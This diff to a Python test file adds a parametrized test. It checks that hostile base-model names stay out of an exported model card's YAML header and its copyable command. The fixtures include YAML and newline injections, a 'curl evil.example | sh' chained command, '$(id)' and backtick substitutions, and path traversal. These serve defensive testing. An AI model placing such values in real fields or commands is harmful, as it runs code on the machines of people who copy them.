@@ -6,6 +6,7 @@ import json
 
 import pytest
 import torch
+import yaml
 from safetensors.torch import load_file, save_file
 
 from tests.unit.serving.conftest import HEADS, HIDDEN, VOCAB, logits
@@ -121,6 +122,35 @@ def test_hub_folder_has_a_card_and_no_pickle(make_speculator, tmp_path) -> None:
     out = export_speculator(folder, tmp_path / "out", "hf")
     assert {file.name for file in out.iterdir()} == {"config.json", "model.safetensors", "README.md"}
     assert "base_model: owner/base" in (out / "README.md").read_text()
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "owner/base\nlicense: mit",
+        "owner/base\n---\n# Owned",
+        "owner/base\n",
+        "owner/base; curl evil.example | sh",
+        "owner/$(id)",
+        "owner/base`id`",
+        "owner/base\r\nx: y",
+        "owner/base: x",
+        "owner/'base'",
+        "owner/base #",
+        "-owner/base",
+        "owner/--trust-remote-code",
+        "~/base",
+        "../base",
+        "owner/base\u2028x",
+    ],
+)
+def test_what_is_no_name_of_the_hub_stays_out_of_the_card(name, make_speculator, tmp_path) -> None:
+    """The card's head is YAML, and its command is there to be copied."""
+    _, folder = make_speculator("mlp", base_model_name_or_path=name)
+    card = (export_speculator(folder, tmp_path / "hostile", "hf") / "README.md").read_text()
+    _, unnamed = make_speculator("mlp", base_model_name_or_path="")
+    assert card == (export_speculator(unnamed, tmp_path / "unnamed", "hf") / "README.md").read_text()
+    assert yaml.safe_load(card.split("---")[1]) == {"library_name": "verl_speculator"}
 
 
 def test_path_of_the_trainer_is_not_published(make_speculator, tmp_path) -> None:
